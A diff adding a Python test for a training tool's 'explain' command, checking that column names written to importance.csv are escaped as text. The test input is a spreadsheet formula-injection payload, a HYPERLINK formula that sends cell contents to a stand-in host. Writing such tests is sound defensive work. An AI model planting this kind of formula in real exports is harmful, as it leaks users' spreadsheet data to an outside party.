@@ -51,3 +51,18 @@ def test_on_another_file_and_the_arguments_it_refuses(workdir, cli):
     assert cli("fit", config).exit_code == 0
     r = cli("explain", "runs/n")
     assert r.exit_code == 2 and "no test split (data.test_size=0): explain it on a file with --data" in r.stderr
+
+
+def test_column_names_reach_importance_csv_as_text_not_formulas(workdir, cli):
+    import nntrain
+
+    formula = '=HYPERLINK("http://x.example/?"&A1;"click")'
+    signal_table(150).rename(columns={"noise": formula, "level": "+1"}).to_csv(workdir / "s.csv", index=False)
+    assert cli("fit", write_config(workdir / "c.yaml", workdir / "s.csv"), "--quiet").exit_code == 0
+    for explain in (
+        lambda: cli("explain", "runs/t", "--repeats", "1"),
+        lambda: nntrain.load("runs/t").explain(repeats=1),
+    ):
+        explain()
+        written = set(pd.read_csv(workdir / "runs/t/importance.csv")["column"])
+        assert {"'" + formula, "'+1", "x"} <= written and formula not in written
